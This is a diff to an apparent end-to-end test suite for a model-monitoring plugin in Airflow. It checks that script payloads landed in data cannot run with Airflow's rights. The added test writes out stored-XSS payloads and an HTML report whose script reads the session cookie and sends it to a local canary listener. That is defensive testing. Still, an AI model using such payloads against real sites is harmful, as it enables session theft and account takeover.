@@ -196,6 +196,7 @@ class Stack:
     mlflow_url: str
     password: str
     lake: Lake
+    config_file: Path
 
 
 def _free_port() -> int:
@@ -258,7 +259,7 @@ def stack(tmp_path_factory) -> Stack:
         passwords = home / "simple_auth_manager_passwords.json.generated"
         yield Stack(url=url, mlflow_url=f"http://127.0.0.1:{mlflow_port}",
                     password=json.loads(passwords.read_text())["admin"],
-                    lake=Lake(load_config(config_file).storage_root))
+                    lake=Lake(load_config(config_file).storage_root), config_file=config_file)
     finally:
         if up.poll() is None:  # let it write its pid files before stopping what it started
             up.communicate(timeout=600)
@@ -338,6 +339,10 @@ def test_reports_are_served_and_nothing_else(stack: Stack) -> None:
     headers = {"Authorization": f"Bearer {_token(stack)}"}
     drift = _get(f"{stack.url}/modelguard/files/reports/2026-09-01/drift.html", headers=headers)
     assert drift.status_code == 200 and drift.headers["content-type"].startswith("text/html")
+    # landed values live in these files: sandboxed (opaque origin, no network), never sniffed
+    policy = drift.headers["content-security-policy"]
+    assert policy.startswith("sandbox allow-scripts") and "allow-same-origin" not in policy
+    assert "connect-src 'none'" in policy and drift.headers["x-content-type-options"] == "nosniff"
     quarantined = _get(f"{stack.url}/modelguard/files/quarantine/{QUARANTINED_DAY}/report.html", headers=headers)
     assert quarantined.status_code == 200 and "quarantined" in quarantined.text
     assert _get(f"{stack.url}/modelguard/static/plotly.min.js", headers=headers).status_code == 200
@@ -396,3 +401,105 @@ def test_the_page_in_the_airflow_ui_through_the_login_page(stack: Stack) -> None
                 shutil.copyfile(ARTIFACTS / "model-health.png", PROJECT / "docs" / "img" / "model-health.png")
         finally:
             browser.close()
+
+
+class _Canary:
+    """A loopback listener: any request that reaches it is a script that ran and reached the network."""
+
+    def __init__(self) -> None:
+        import http.server
+        import threading
+
+        hits = self.hits = []
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
+                hits.append(self.path)
+                self.send_response(204)
+                self.end_headers()
+
+            do_POST = do_GET  # noqa: N815
+
+            def log_message(self, *args) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self) -> None:
+        self.server.shutdown()
+
+
+def _hostile_batch(stack: Stack, payload: str, canary: str) -> str:
+    """Land the next day's batch with the payload in a category and in a column name; ingest it."""
+    from modelguard.ingest import ingest_batch
+
+    config = load_config(stack.config_file)
+    landed = sorted(stack.lake.landed_ids("batches"))
+    day = (pd.Timestamp(landed[-1]) + pd.Timedelta(days=1)).date().isoformat()
+    frame = pd.read_parquet(stack.lake.landing("batches", landed[-1]))
+    frame["event_time"] = frame["event_time"] + pd.Timedelta(days=1)
+    frame["transaction_id"] = frame["transaction_id"].astype(str) + "-hostile"
+    frame.loc[frame.index[:30], "merchant_category"] = payload
+    frame[f"<img src={canary}/column-name>"] = 1
+    path = stack.lake.root / "landing" / "batches" / f"{day}.parquet"
+    frame.to_parquet(path, index=False)
+    assert ingest_batch(config, day)["status"] == "quarantined"
+    return day
+
+
+@pytest.mark.e2e
+def test_a_script_payload_in_the_data_runs_nowhere_with_airflows_rights(stack: Stack) -> None:
+    """Landed values reach the quarantine report, the decision log and (through an Evidently report made
+    before the markup rule, say) a served HTML file. In the browser, logged in to Airflow: nothing runs in
+    Airflow's origin and nothing reaches the network."""
+    from playwright.sync_api import sync_playwright
+
+    canary = _Canary()
+    payload = (f"</script><script>document.title='pwned';fetch('{canary.url}/category')</script>"
+               f"<img src=x onerror=\"fetch('{canary.url}/onerror')\">")
+    try:
+        day = _hostile_batch(stack, payload, canary.url)
+        decisions.record(stack.lake, batch_id=day, dag_id="modelguard_monitor", action="no_action", reason=payload,
+                         alert="drift_alert")
+        # An HTML report holding the payload as live script, as a plot library's inline data would
+        hostile = stack.lake.report_dir(day) / "drift.html"
+        hostile.parent.mkdir(parents=True, exist_ok=True)
+        hostile.write_text(
+            "<!doctype html><html><head><title>report</title></head><body><script>"
+            "var origin = self.origin, cookie;"
+            "try { cookie = document.cookie; } catch (e) { cookie = 'blocked'; }"
+            f"try {{ fetch('/api/v2/dags', {{credentials: 'include'}}).then(function () {{"
+            f" new Image().src = '{canary.url}/api-read'; }}); }} catch (e) {{}}"
+            f"try {{ new Image().src = '{canary.url}/img?c=' + cookie; }} catch (e) {{}}"
+            f"try {{ fetch('{canary.url}/fetch'); }} catch (e) {{}}"
+            "try { window.top.document.title = 'pwned'; } catch (e) {}"
+            "document.title = 'origin:' + origin + ' cookie:' + cookie;"
+            "</script></body></html>")
+        with sync_playwright() as playwright:
+            browser = playwright.chromium.launch(executable_path=_chromium(), args=["--no-sandbox"])
+            try:
+                page = browser.new_context().new_page()
+                page.set_default_timeout(90_000)
+                page.goto(f"{stack.url}/modelguard/")
+                page.get_by_label("Username").fill("admin")
+                page.get_by_label("Password").fill(stack.password)
+                page.get_by_role("button", name="Sign in").click()
+                page.wait_for_url(f"{stack.url}/modelguard/")
+                page.locator("#timeline .main-svg").first.wait_for()
+                assert page.title() != "pwned" and payload in page.locator("body").inner_text()  # shown as text
+
+                page.goto(f"{stack.url}/modelguard/files/quarantine/{day}/report.html")
+                assert page.title() != "pwned" and "quarantined" in page.locator("body").inner_text()
+
+                page.goto(f"{stack.url}/modelguard/files/reports/{day}/drift.html")
+                page.wait_for_function("document.title.startsWith('origin:')")
+                # the script ran, but in an opaque origin: no cookie, no Airflow API, no network
+                assert page.title() == "origin:null cookie:blocked", page.title()
+                page.wait_for_timeout(2000)
+            finally:
+                browser.close()
+        assert canary.hits == [], canary.hits
+    finally:
+        canary.close()
